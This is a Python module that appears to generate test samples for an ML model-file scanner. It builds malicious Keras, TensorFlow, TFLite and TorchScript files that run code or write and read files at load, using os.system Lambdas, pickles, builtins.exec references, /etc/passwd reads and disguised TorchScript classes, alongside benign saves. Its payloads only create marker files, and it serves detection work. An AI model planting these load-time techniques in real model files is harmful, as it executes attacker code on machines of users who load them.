"""Keras, TensorFlow and TorchScript samples: configs, graphs and code that run at load.

Malicious samples follow published techniques (Keras config-only archives,
model directories, UTF-16 configs, TorchModuleWrapper pickles, TFSMLayer,
vocabulary paths, tf_keras ``keras_metadata.pb``; TensorFlow ops that write
files such as ``PrintV2`` to ``file://``, checkpoint ops outside the saver,
debug ops with ``debug_urls``; TorchScript ``__setstate__`` that calls
``torch.from_file(..., shared=True)`` or ``torch.save``, under a class name
borrowed from ``torch.nn``). Payloads only create a marker file.

TorchScript archives and the benign Keras saves are built by the real
libraries in a subprocess (TorchScript compiles classes from a source file;
Keras needs ``KERAS_BACKEND`` set before import), and skipped when the
library is not installed. TensorFlow is not installed here: SavedModel,
``keras_metadata.pb`` and TFLite bytes are written by hand following
TensorFlow's published protobuf and flatbuffer schemas (the readers were
also checked against SavedModels written by TensorFlow itself, from the
TensorAbuse research artefacts).
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import subprocess
import sys
import tempfile
import types
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from openward._samples import PickleAsm

__all__ = ["benign", "lambda_code", "malicious", "saved_model", "tflite_model"]

Add = Callable[..., None]

# ---------------------------------------------------------------------------
# protobuf and flatbuffer writers (TensorFlow's schemas, by field number)
# ---------------------------------------------------------------------------


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def _pb(number: int, payload: bytes | str | int) -> bytes:
    if isinstance(payload, int):
        return _varint(number << 3) + _varint(payload)
    data = payload.encode() if isinstance(payload, str) else payload
    return _varint(number << 3 | 2) + _varint(len(data)) + data


def attr_s(value: str) -> bytes:
    """AttrValue with ``s``."""
    return _pb(2, value)


def attr_list_s(values: list[str]) -> bytes:
    return _pb(1, b"".join(_pb(2, v) for v in values))


def attr_func(name: str) -> bytes:
    return _pb(10, _pb(1, name))


def attr_string_tensor(value: str) -> bytes:
    """AttrValue holding a scalar DT_STRING TensorProto (a Const's ``value``)."""
    return _pb(8, _pb(1, 7) + _pb(8, value))


def node(name: str, op: str, inputs: tuple[str, ...] = (), **attrs: bytes) -> bytes:
    """A NodeDef."""
    out = _pb(1, name) + _pb(2, op) + b"".join(_pb(3, i) for i in inputs)
    for key, value in attrs.items():
        out += _pb(5, _pb(1, key) + _pb(2, value))
    return out


def function(name: str, nodes: list[bytes]) -> bytes:
    """A FunctionDef (signature name and body)."""
    return _pb(1, _pb(1, name)) + b"".join(_pb(3, n) for n in nodes)


def saved_model(
    graph_nodes: list[bytes],
    functions: list[bytes] = (),  # type: ignore[assignment]
    *,
    saver: tuple[str, str, str] | None = None,
    signature_outputs: tuple[str, ...] = (),
    object_nodes: list[bytes] = (),  # type: ignore[assignment]
) -> bytes:
    """A SavedModel protobuf with one meta graph."""
    graph = b"".join(_pb(1, n) for n in graph_nodes)
    if functions:
        graph += _pb(2, b"".join(_pb(1, f) for f in functions))
    meta = _pb(2, graph)
    if saver is not None:
        meta += _pb(3, _pb(1, saver[0]) + _pb(2, saver[1]) + _pb(3, saver[2]))
    if signature_outputs:
        outputs = b"".join(
            _pb(2, _pb(1, f"output_{i}") + _pb(2, _pb(1, t)))
            for i, t in enumerate(signature_outputs)
        )
        meta += _pb(5, _pb(1, "serving_default") + _pb(2, outputs))
    if object_nodes:
        meta += _pb(7, b"".join(_pb(1, o) for o in object_nodes))
    return _pb(1, 1) + _pb(2, meta)


def keras_object(identifier: str, metadata: dict[str, Any]) -> bytes:
    """A SavedObject whose user_object carries tf_keras's JSON metadata."""
    return _pb(4, _pb(1, identifier) + _pb(3, json.dumps(metadata)))


def function_object(concrete: str) -> bytes:
    """A SavedObject exposing a concrete function."""
    return _pb(6, _pb(1, concrete))


def keras_metadata(nodes: list[tuple[int, str, str, dict[str, Any]]]) -> bytes:
    """tf_keras's keras_metadata.pb: SavedMetadata of (node_id, path, identifier, metadata)."""
    return b"".join(
        _pb(1, (_pb(2, i) if i else b"") + _pb(3, path) + _pb(4, ident) + _pb(5, json.dumps(meta)))
        for i, path, ident, meta in nodes
    )


class _Flat:
    """Flatbuffer objects, laid out parent before children (offsets point forward)."""

    def __init__(self) -> None:
        self.buf = bytearray()

    def _u32(self, value: int) -> bytes:
        return value.to_bytes(4, "little")

    def emit(self, obj: object) -> int:
        if isinstance(obj, bytes):  # [ubyte] / string
            pos = len(self.buf)
            self.buf += self._u32(len(obj)) + obj + b"\x00" * (4 - len(obj) % 4)
            return pos
        if isinstance(obj, list):  # vector of tables
            pos = len(self.buf)
            self.buf += self._u32(len(obj)) + bytes(4 * len(obj))
            for i, item in enumerate(obj):
                slot = pos + 4 + 4 * i
                self.buf[slot : slot + 4] = self._u32(self.emit(item) - slot)
            return pos
        assert isinstance(obj, dict)  # table: {field index: int | child}
        n = max(obj) + 1 if obj else 0
        vtable = len(self.buf)
        offsets = [0] * n
        for index in obj:
            offsets[index] = 4 + 4 * sorted(obj).index(index)
        self.buf += (4 + 2 * n).to_bytes(2, "little") + (4 + 4 * len(obj)).to_bytes(2, "little")
        self.buf += b"".join(o.to_bytes(2, "little") for o in offsets)
        pos = len(self.buf)
        self.buf += (pos - vtable).to_bytes(4, "little", signed=True) + bytes(4 * len(obj))
        for index in sorted(obj):
            slot = pos + offsets[index]
            value = obj[index]
            if isinstance(value, int):
                self.buf[slot : slot + 4] = self._u32(value)
            else:
                self.buf[slot : slot + 4] = self._u32(self.emit(value) - slot)
        return pos


def tflite_model(operators: list[tuple[str, bytes]]) -> bytes:
    """A TFLite model: one custom operator per ``(custom code, custom options)``."""
    codes = [{1: code.encode()} for code, _ in operators]
    ops = [{0: i, 5: options} for i, (_, options) in enumerate(operators)]
    model = {0: 3, 1: codes, 2: [{3: ops}]}
    flat = _Flat()
    flat.buf += bytes(4) + b"TFL3"
    root = flat.emit(model)
    flat.buf[0:4] = root.to_bytes(4, "little")
    return bytes(flat.buf)


# ---------------------------------------------------------------------------
# TensorFlow samples
# ---------------------------------------------------------------------------

_SAVE_FN = "__inference__traced_save_51"
_RESTORE_FN = "__inference__traced_restore_66"
_SERVE_FN = "__inference_signature_wrapper_30"
_TF2_SAVER = ("saver_filename:0", "StatefulPartitionedCall_1:0", "StatefulPartitionedCall_2")


def _saver_functions(extra_restore: list[bytes] | None = None) -> list[bytes]:
    """The save and restore functions every TF2 SavedModel carries (as TensorFlow writes them)."""
    save = function(
        _SAVE_FN,
        [
            node(
                "StaticRegexFullMatch",
                "StaticRegexFullMatch",
                ("file_prefix",),
                pattern=attr_s("^s3://.*"),
            ),
            node("Const", "Const", value=attr_string_tensor(".part")),
            node("Const_1", "Const", value=attr_string_tensor("_temp/part")),
            node(
                "Select",
                "Select",
                ("StaticRegexFullMatch:output:0", "Const:output:0", "Const_1:output:0"),
            ),
            node("StringJoin", "StringJoin", ("file_prefix", "Select:output:0")),
            node(
                "ShardedFilename", "ShardedFilename", ("StringJoin:output:0", "shard", "num_shards")
            ),
            node(
                "SaveV2/tensor_names",
                "Const",
                value=attr_string_tensor("w/.ATTRIBUTES/VARIABLE_VALUE"),
            ),
            node(
                "SaveV2", "SaveV2", ("ShardedFilename:filename:0", "SaveV2/tensor_names:output:0")
            ),
            node(
                "MergeV2Checkpoints", "MergeV2Checkpoints", ("checkpoint_prefixes", "file_prefix")
            ),
        ],
    )
    restore = function(
        _RESTORE_FN,
        [
            node(
                "RestoreV2/tensor_names",
                "Const",
                value=attr_string_tensor("w/.ATTRIBUTES/VARIABLE_VALUE"),
            ),
            node("RestoreV2", "RestoreV2", ("file_prefix", "RestoreV2/tensor_names:output:0")),
            node("AssignVariableOp", "AssignVariableOp", ("w", "RestoreV2:tensors:0")),
            *(extra_restore or []),
        ],
    )
    return [save, restore]


def _tf2_model(serving: list[bytes], *, extra_restore: list[bytes] | None = None) -> bytes:
    """A TF2 SavedModel: variables, the saver, and one serving function."""
    graph = [
        node("w", "VarHandleOp", shared_name=attr_s("w")),
        node("saver_filename", "Placeholder"),
        node(
            "StatefulPartitionedCall", "StatefulPartitionedCall", ("x", "w"), f=attr_func(_SERVE_FN)
        ),
        node(
            "StatefulPartitionedCall_1",
            "StatefulPartitionedCall",
            ("saver_filename", "w"),
            f=attr_func(_SAVE_FN),
        ),
        node(
            "StatefulPartitionedCall_2",
            "StatefulPartitionedCall",
            ("saver_filename", "w"),
            f=attr_func(_RESTORE_FN),
        ),
    ]
    return saved_model(
        graph,
        [*_saver_functions(extra_restore), function(_SERVE_FN, serving)],
        saver=_TF2_SAVER,
        signature_outputs=("StatefulPartitionedCall:0",),
        object_nodes=[function_object(_SERVE_FN)],
    )


def _benign_serving() -> list[bytes]:
    return [
        node("ReadVariableOp", "ReadVariableOp", ("readvariableop_resource",)),
        node("MatMul", "MatMul", ("x", "ReadVariableOp:value:0")),
        node("StringFormat", "StringFormat", ("MatMul:product:0",), template=attr_s("{}")),
        node("PrintV2", "PrintV2", ("StringFormat:output:0",), output_stream=attr_s("stderr")),
        # a vocabulary under assets/ arrives as a captured argument, not a constant
        node(
            "InitializeTableFromTextFileV2",
            "InitializeTableFromTextFileV2",
            ("table", "asset_path"),
        ),
        node("Identity", "Identity", ("MatMul:product:0", "^PrintV2")),
    ]


def _tf1_model(extra: list[bytes]) -> bytes:
    """A TF1 graph with its Saver's nodes under save/, as tf.compat.v1.train.Saver builds them."""
    graph = [
        node("w", "VariableV2"),
        node("x", "Placeholder"),
        node("MatMul", "MatMul", ("x", "w")),
        node("save/Const", "Const", value=attr_string_tensor("model")),
        node("save/SaveV2/tensor_names", "Const", value=attr_string_tensor("w")),
        node("save/SaveV2", "SaveV2", ("save/Const", "save/SaveV2/tensor_names", "w")),
        node("save/control_dependency", "Identity", ("save/Const", "^save/SaveV2")),
        node("save/RestoreV2", "RestoreV2", ("save/Const", "save/SaveV2/tensor_names")),
        node("save/Assign", "Assign", ("w", "save/RestoreV2")),
        node("save/restore_all", "NoOp", ("^save/Assign",)),
        *extra,
    ]
    return saved_model(
        graph,
        saver=("save/Const:0", "save/control_dependency:0", "save/restore_all"),
        signature_outputs=("MatMul:0",),
    )


def _tensorflow_malicious(add: Add, touch: Callable[[str], str]) -> None:
    marker = touch("tf-printv2-file")[len("touch ") :]
    printv2 = [
        *_benign_serving(),
        node("StringFormat_1", "StringFormat", template=attr_s("payload")),
        node(
            "PrintV2_1",
            "PrintV2",
            ("StringFormat_1:output:0",),
            output_stream=attr_s(f"file://{marker}"),
        ),
    ]
    add(
        "tensorflow/printv2_to_file/saved_model.pb",
        _tf2_model(printv2),
        "tf-printv2-file",
        "PrintV2 whose output_stream is file://PATH: appends to any file when served",
        "tf-file-write",
    )
    checkpoint_in_serving = [
        *_benign_serving(),
        node("prefix", "Const", value=attr_string_tensor("/var/lib/planted")),
        node("names", "Const", value=attr_string_tensor("x")),
        node("SaveV2", "SaveV2", ("prefix:output:0", "names:output:0", "x")),
    ]
    add(
        "tensorflow/checkpoint_write_in_serving/saved_model.pb",
        _tf2_model(checkpoint_in_serving),
        "tf-checkpoint-outside-saver",
        "SaveV2 to a constant path in the serving function (not the saver's)",
        "tf-file-write",
    )
    add(
        "tensorflow/write_in_restore/saved_model.pb",
        _tf2_model(
            _benign_serving(),
            extra_restore=[
                node("path", "Const", value=attr_string_tensor("/var/lib/planted")),
                node("WriteFile", "WriteFile", ("path:output:0", "RestoreV2:tensors:0")),
            ],
        ),
        "tf-write-in-saver",
        "WriteFile hidden in the saver's restore function (TF Serving runs it at load)",
        "tf-file-write",
    )
    debug = [
        *_benign_serving(),
        node("Debug", "DebugIdentityV3", ("x",), debug_urls=attr_list_s(["file:///tmp/dump"])),
    ]
    add(
        "tensorflow/debug_identity/saved_model.pb",
        _tf2_model(debug),
        "tf-debug-urls",
        "DebugIdentityV3 dumping tensors to a file:// debug URL",
        "tf-file-write",
    )
    table = [
        *_benign_serving(),
        node("vocab", "Const", value=attr_string_tensor("/etc/passwd")),
        node("Init", "InitializeTableFromTextFileV2", ("table", "vocab:output:0")),
    ]
    add(
        "tensorflow/table_from_file/saved_model.pb",
        _tf2_model(table),
        "tf-table-from-file",
        "a lookup table initialised from a constant absolute path",
        "tf-dangerous-op",
        "high",
    )
    add(
        "tensorflow/tf1_write_file/saved_model.pb",
        _tf1_model(
            [
                node("path", "Const", value=attr_string_tensor("/var/lib/planted")),
                node("WriteFile", "WriteFile", ("path", "x")),
                node("out", "Identity", ("MatMul", "^WriteFile")),
            ]
        ),
        "tf1-write-file",
        "a TF1 graph whose serving path writes a file next to a legitimate Saver",
        "tf-file-write",
    )
    nodedef = node("PrintV2", "PrintV2", ("in",), output_stream=attr_s("file:///var/lib/planted"))
    add(
        "tensorflow/flex_printv2.tflite",
        tflite_model([("FlexPrintV2", b"PrintV2\x00" + nodedef)]),
        "tflite-flex-printv2-file",
        "a TFLite Flex PrintV2 writing to a file:// stream",
        "tf-file-write",
    )


def _tensorflow_benign(add: Add) -> None:
    add(
        "tensorflow/tf2/saved_model.pb",
        _tf2_model(_benign_serving()),
        "tf2-saved-model",
        "TF2 SavedModel with its saver functions, PrintV2 to stderr and an asset vocabulary",
    )
    add(
        "tensorflow/tf1/saved_model.pb",
        _tf1_model([node("out", "Identity", ("MatMul",))]),
        "tf1-saved-model",
        "TF1 SavedModel with a tf.train.Saver",
    )
    nodedef = node("PrintV2", "PrintV2", ("in",), output_stream=attr_s("stderr"))
    add(
        "tensorflow/flex_print_stderr.tflite",
        tflite_model([("FlexPrintV2", b"PrintV2\x00" + nodedef)]),
        "tflite-flex-print",
        "a TFLite Flex PrintV2 to stderr",
    )


# ---------------------------------------------------------------------------
# Keras samples
# ---------------------------------------------------------------------------


def lambda_code(command: str) -> str:
    """Base64 marshalled bytecode of ``lambda x: (os.system(command), x)[1]``.

    Keras stores a Lambda's function this way; it is built from our own source
    string, with the running interpreter, so ``marshal.loads`` in the same
    Python reads it back.
    """
    outer = compile(f"lambda x: (__import__('os').system({command!r}), x)[1]", "<zoo>", "eval")
    inner = next(c for c in outer.co_consts if isinstance(c, types.CodeType))
    return base64.b64encode(marshal.dumps(inner)).decode("ascii")


def _dtype() -> dict[str, Any]:
    return {
        "module": "keras",
        "class_name": "DTypePolicy",
        "config": {"name": "float32"},
        "registered_name": None,
    }


def _layer(class_name: str, config: dict[str, Any], module: str = "keras.layers") -> dict[str, Any]:
    return {
        "module": module,
        "class_name": class_name,
        "config": {"name": class_name.lower(), "trainable": True, "dtype": _dtype(), **config},
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
    }


def _sequential(*layers: dict[str, Any]) -> dict[str, Any]:
    """A Keras 3 Sequential config, as ``model.save`` writes it."""
    input_layer = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {
            "batch_shape": [None, 4],
            "dtype": "float32",
            "sparse": False,
            "ragged": False,
            "name": "input_layer",
            "optional": False,
        },
        "registered_name": None,
    }
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "trainable": True,
            "dtype": _dtype(),
            "layers": [input_layer, *layers],
            "build_input_shape": [None, 4],
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
        "compile_config": {},
    }


def _lambda_layer(command: str) -> dict[str, Any]:
    code = lambda_code(command)
    function = {
        "class_name": "__lambda__",
        "config": {"code": code, "defaults": None, "closure": None},
    }
    return _layer("Lambda", {"function": function, "arguments": {}})


def _keras_zip(config: bytes, *, metadata: bool = True) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        if metadata:
            z.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
        z.writestr("config.json", config)
    return buf.getvalue()


def _dense() -> dict[str, Any]:
    return _layer("Dense", {"units": 4, "activation": "relu", "use_bias": True})


def _keras_malicious(add: Add, touch: Callable[[str], str]) -> None:
    tag = "keras-config-only"
    add(
        "keras/config_only.keras",
        _keras_zip(json.dumps(_sequential(_lambda_layer(touch(tag)))).encode(), metadata=False),
        tag,
        "a .keras zip holding nothing but config.json with a Lambda (loads with safe_mode=False)",
        "keras-lambda",
        marker=tag,
    )
    tag = "keras-directory"
    add(
        "keras/model_dir/config.json",
        json.dumps(_sequential(_lambda_layer(touch(tag)))).encode(),
        tag,
        "a Keras 3 model saved as a directory (config.json) with a Lambda",
        "keras-lambda",
        marker=tag,
    )
    tag = "keras-utf16-config"
    add(
        "keras/utf16_config.keras",
        _keras_zip(json.dumps(_sequential(_dense(), _lambda_layer(touch(tag)))).encode("utf-16")),
        tag,
        "config.json in UTF-16, which json.loads(bytes) reads and a UTF-8 check misses",
        "keras-lambda",
        marker=tag,
    )
    tag = "keras-torch-module"
    payload = PickleAsm().proto(2).call("os", "system", touch(tag)).stop().bytes()
    wrapper = _layer(
        "TorchModuleWrapper",
        {"module": base64.b64encode(payload).decode("ascii"), "output_shape": None},
    )
    add(
        "keras/torch_module.keras",
        _keras_zip(json.dumps(_sequential(wrapper)).encode()),
        tag,
        "TorchModuleWrapper whose base64 module is a pickle that runs os.system (torch.load)",
        "pickle-dangerous-global",
        marker=tag,
    )
    tfsm = _layer("TFSMLayer", {"filepath": "/srv/shared/other_model", "call_endpoint": "serve"})
    add(
        "keras/tfsm_layer.keras",
        _keras_zip(json.dumps(_sequential(tfsm)).encode()),
        "keras-tfsm-layer",
        "TFSMLayer loading a SavedModel from an outside path (its graph runs)",
        "keras-external-model",
        "high",
    )
    lookup = _layer("StringLookup", {"vocabulary": "/etc/hostname", "num_oov_indices": 1})
    add(
        "keras/vocabulary_path.keras",
        _keras_zip(json.dumps(_sequential(lookup)).encode()),
        "keras-vocabulary-path",
        "StringLookup whose vocabulary is a path: the file is read at load (CVE-2025-12058)",
        "keras-file-reference",
        "high",
    )
    exec_fn = _layer(
        "Dense",
        {
            "units": 4,
            "activation": {
                "module": "builtins",
                "class_name": "function",
                "config": "exec",
                "registered_name": "function",
            },
        },
    )
    add(
        "keras/builtin_exec.keras",
        _keras_zip(json.dumps(_sequential(exec_fn)).encode()),
        "keras-builtin-function",
        "a function config naming builtins.exec (resolved by Keras before 3.9)",
        "keras-external-reference",
        "high",
    )
    unsafe = _layer(
        "Lambda",
        {
            "function": {
                "module": "keras.config",
                "class_name": "function",
                "config": "enable_unsafe_deserialization",
                "registered_name": "function",
            },
            "arguments": {},
        },
    )
    add(
        "keras/enable_unsafe.keras",
        _keras_zip(json.dumps(_sequential(unsafe, _lambda_layer(touch("keras-unsafe")))).encode()),
        "keras-safe-mode-off",
        "a Lambda calling keras.config.enable_unsafe_deserialization before a bytecode Lambda",
        "keras-lambda",
    )
    legacy_lambda = {
        "name": "lambda",
        "trainable": True,
        "dtype": "float32",
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": {
                "class_name": "__tuple__",
                "items": [lambda_code(touch("tf-keras-lambda")), None, None],
            },
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
        "shared_object_id": 3,
    }
    root = {
        "name": "sequential",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": []},
    }
    add(
        "keras/tf_keras_savedmodel/keras_metadata.pb",
        keras_metadata(
            [
                (0, "root", "_tf_keras_sequential", root),
                (2, "root.layer-0", "_tf_keras_layer", legacy_lambda),
            ]
        ),
        "tf-keras-metadata-lambda",
        "tf_keras SavedModel: a legacy Lambda in keras_metadata.pb",
        "keras-lambda",
    )
    add(
        "keras/tf_keras_savedmodel/saved_model.pb",
        saved_model(
            [node("x", "Placeholder")],
            object_nodes=[
                keras_object("_tf_keras_sequential", root),
                keras_object("_tf_keras_layer", legacy_lambda),
            ],
        ),
        "tf-keras-object-graph-lambda",
        "older tf_keras SavedModel: a Lambda in the object graph's user_object metadata",
        "keras-lambda",
    )
    add(
        "keras/hub_preset/task.json",
        json.dumps(_sequential(_lambda_layer(touch("keras-hub-task")))).encode(),
        "keras-hub-preset",
        "a keras_hub preset's task.json carrying a Lambda",
        "keras-lambda",
    )


def _keras_benign(add: Add) -> None:
    custom = _layer(
        "Dense",
        {
            "units": 4,
            "activation": {
                "module": "builtins",
                "class_name": "function",
                "config": "mypkg>gelu_fast",
                "registered_name": "function",
            },
        },
    )
    preset = {
        "module": "keras_hub.src.models.gemma.gemma_backbone",
        "class_name": "GemmaBackbone",
        "config": {"name": "gemma_backbone", "vocabulary_size": 256, "num_layers": 2},
        "registered_name": "keras_hub>GemmaBackbone",
    }
    lookup = _layer("StringLookup", {"vocabulary": ["a", "b", "c"], "num_oov_indices": 1})
    add(
        "keras/handmade.keras",
        _keras_zip(json.dumps(_sequential(_dense(), custom, lookup)).encode()),
        "keras-handmade",
        "Keras 3 config with a registered custom activation and an inline vocabulary",
    )
    add(
        "keras/hub_preset/config.json",
        json.dumps(preset).encode(),
        "keras-hub-preset",
        "keras_hub backbone config",
    )
    for name, data in _real_keras_saves():
        add(f"keras/real/{name}", data, "keras-real", f"{name} saved by Keras 3 itself")


_KERAS_SAVES = r"""
import os, sys, zipfile
os.environ["KERAS_BACKEND"] = "torch"
import keras
from keras import layers
out = sys.argv[1]
inp = keras.Input((8,))
x = layers.Dense(16, activation="relu", kernel_regularizer="l2")(inp)
x = layers.Dropout(0.1)(x)
x = layers.BatchNormalization()(x)
x = layers.Dense(4, activation=keras.activations.gelu)(x)
m = keras.Model(inp, layers.Activation("softmax")(x))
m.compile(optimizer=keras.optimizers.Adam(1e-3), loss="categorical_crossentropy",
          metrics=["accuracy", keras.metrics.AUC()])
m.save(os.path.join(out, "functional.keras"))
s = keras.Sequential([keras.Input((4,)), layers.Dense(3), layers.LayerNormalization(),
                      layers.Reshape((3, 1)), layers.Conv1D(2, 2, padding="same"), layers.LSTM(3),
                      layers.StringLookup(vocabulary=["a", "b"]) if False else layers.Dense(2)])
s.compile(optimizer="sgd", loss=keras.losses.MeanSquaredError())
s.save(os.path.join(out, "sequential.keras"))
s.save(os.path.join(out, "sequential.h5"))
archive = zipfile.ZipFile(os.path.join(out, "functional.keras"))
archive.extractall(os.path.join(out, "functional_dir"))
"""


def _real_keras_saves() -> list[tuple[str, bytes]]:
    """Models saved by Keras 3 (torch backend) in a subprocess; none if it is not installed."""
    try:
        import importlib.util

        if importlib.util.find_spec("keras") is None or importlib.util.find_spec("torch") is None:
            return []
    except ValueError:
        return []
    with tempfile.TemporaryDirectory() as tmp:
        env = {**os.environ, "KERAS_BACKEND": "torch", "PYTHONWARNINGS": "ignore"}
        done = subprocess.run(
            [sys.executable, "-c", _KERAS_SAVES, tmp],
            env=env,
            capture_output=True,
            timeout=300,
            check=False,
        )
        if done.returncode != 0:
            return []
        root = Path(tmp)
        return [
            (str(p.relative_to(root)), p.read_bytes())
            for p in sorted(root.rglob("*"))
            if p.is_file()
        ]


# ---------------------------------------------------------------------------
# TorchScript samples
# ---------------------------------------------------------------------------

_TORCHSCRIPT_BUILD = r"""
import os, sys, zipfile
from typing import Tuple
import torch

out, from_file_marker, save_marker = sys.argv[1:4]


class Evil(torch.nn.Module):
    # __setstate__ runs while torch.jit.load unpickles data.pkl
    def __init__(self, path: str):
        super().__init__()
        self.w = torch.nn.Parameter(torch.zeros(2))
        self.path = path
        self.scratch = torch.zeros(4, dtype=torch.uint8)

    def forward(self, x):
        return x + self.w

    @torch.jit.export
    def __getstate__(self) -> Tuple[torch.Tensor, str, bool]:
        return (self.w, self.path, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, str, bool]) -> None:
        self.w = state[0]
        self.path = state[1]
        self.training = state[2]
        self.scratch = torch.from_file(self.path, True, 4, dtype=torch.uint8)


class Linear(torch.nn.Module):
    # serialised as __torch__.torch.nn.modules.linear.Linear: a borrowed name
    def __init__(self, path: str):
        super().__init__()
        self.weight = torch.nn.Parameter(torch.zeros(2, 2))
        self.path = path

    def forward(self, x):
        return x @ self.weight

    @torch.jit.export
    def __getstate__(self) -> Tuple[torch.Tensor, str, bool]:
        return (self.weight, self.path, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, str, bool]) -> None:
        self.weight = state[0]
        self.path = state[1]
        self.training = state[2]
        torch.save(self.path, self.path)


Linear.__module__ = "torch.nn.modules.linear"


class Reader(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.path = "/etc/hostname"

    def forward(self, x):
        return x + torch.from_file(self.path, False, 1, dtype=torch.uint8).float()


class Plain(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.l = torch.nn.Linear(4, 3)
        self.xs = [1, 2, 3]

    def forward(self, x):
        return torch.relu(self.l(x)).sum() + len(self.xs)


# the disguised class first: scripting torch.nn.Linear first would mangle its name
if from_file_marker != "-":
    for module, name in (
        (Evil(from_file_marker), "setstate_from_file.pt"),
        (Linear(save_marker), "disguised_linear.pt"),
        (Reader(), "from_file_read.pt"),
    ):
        torch.jit.save(torch.jit.script(module), os.path.join(out, name))
torch.jit.save(torch.jit.script(Plain()), os.path.join(out, "scripted.pt"))
traced = torch.jit.trace(
    torch.nn.Sequential(torch.nn.Conv2d(3, 4, 3), torch.nn.BatchNorm2d(4), torch.nn.ReLU()),
    torch.zeros(1, 3, 8, 8),
)
torch.jit.save(traced, os.path.join(out, "traced.pt"))
torch.jit.script(Plain())._save_for_lite_interpreter(os.path.join(out, "lite.ptl"))
"""


_BENIGN_ARCHIVES = ("scripted.pt", "traced.pt", "lite.ptl")
_benign_cache: dict[str, bytes] = {}


def _torchscript_archives(from_file_marker: str, save_marker: str) -> dict[str, bytes]:
    """Archives built by torch.jit in one subprocess ("-" markers: the benign ones only).

    The benign archives of any run are kept for :func:`_torchscript_benign`, so
    building the whole zoo compiles TorchScript once.
    """
    if from_file_marker == "-" and _benign_cache:
        return dict(_benign_cache)
    try:
        import importlib.util

        if importlib.util.find_spec("torch") is None:
            return {}
    except ValueError:
        return {}
    with tempfile.TemporaryDirectory() as tmp:
        script = Path(tmp) / "build_torchscript.py"  # TorchScript compiles from source files
        script.write_text(_TORCHSCRIPT_BUILD)
        out = Path(tmp) / "out"
        out.mkdir()
        done = subprocess.run(
            [sys.executable, str(script), str(out), from_file_marker, save_marker],
            env={**os.environ, "PYTHONWARNINGS": "ignore"},
            capture_output=True,
            timeout=300,
            check=False,
        )
        if done.returncode != 0:
            return {}
        archives = {p.name: p.read_bytes() for p in out.iterdir()}
    _benign_cache.update({k: v for k, v in archives.items() if k in _BENIGN_ARCHIVES})
    return archives


def _rewrite_code(archive: bytes, edit: Callable[[str, str], str]) -> bytes:
    """The archive with each ``code/*.py`` member passed through ``edit(name, text)``."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if "/code/" in info.filename and info.filename.endswith(".py"):
                data = edit(info.filename, data.decode()).encode()
            dst.writestr(info, data)
    return out.getvalue()


def _torchscript_malicious(add: Add, touch: Callable[[str], str]) -> None:
    from_file_tag, save_tag = "torchscript-setstate-from-file", "torchscript-disguised-save"
    archives = _torchscript_archives(
        touch(from_file_tag)[len("touch ") :], touch(save_tag)[len("touch ") :]
    )
    if not archives:
        return
    add(
        "torchscript/setstate_from_file.pt",
        archives["setstate_from_file.pt"],
        from_file_tag,
        "__setstate__ calling torch.from_file(path, shared=True): creates the file at load",
        "torchscript-file-write",
        loader="torch",
        marker=from_file_tag,
    )
    add(
        "torchscript/disguised_linear.pt",
        archives["disguised_linear.pt"],
        save_tag,
        "class serialised as __torch__.torch.nn.modules.linear.Linear whose __setstate__ "
        "calls torch.save(path): the name vouches for nothing",
        "torchscript-file-write",
        loader="torch",
        marker=save_tag,
    )
    add(
        "torchscript/from_file_read.pt",
        archives["from_file_read.pt"],
        "torchscript-from-file-read",
        "forward() mapping /etc/hostname with torch.from_file",
        "torchscript-file-read",
        "high",
    )

    def custom_op(name: str, text: str) -> str:
        del name
        return text.replace("torch.relu(", "ops.evil_ns.run(")

    add(
        "torchscript/custom_op.pt",
        _rewrite_code(archives["scripted.pt"], custom_op),
        "torchscript-custom-op",
        "code calling torch.ops.evil_ns.run: native code from a library outside the file",
        "torchscript-custom-op",
        "medium",
    )

    def unparsable(name: str, text: str) -> str:
        del name
        return text.replace(
            "    return torch.add(",
            "    _x = torch.from_file(self.p, True, 4) $\n    return torch.add(",
        )

    add(
        "torchscript/unparsable.pt",
        _rewrite_code(archives["scripted.pt"], unparsable),
        "torchscript-unparsable",
        "code Python's parser refuses, hiding a torch.from_file call",
        "torchscript-file-write",
    )


def _torchscript_benign(add: Add) -> None:
    archives = _torchscript_archives("-", "-")  # only the benign archives
    for name in _BENIGN_ARCHIVES:
        if name in archives:
            add(f"torchscript/{name}", archives[name], "torchscript", f"torch.jit.save: {name}")


# ---------------------------------------------------------------------------


def malicious(add: Add, touch: Callable[[str], str]) -> None:
    _keras_malicious(add, touch)
    _tensorflow_malicious(add, touch)
    _torchscript_malicious(add, touch)


def benign(add: Add) -> None:
    _keras_benign(add)
    _tensorflow_benign(add)
    _torchscript_benign(add)
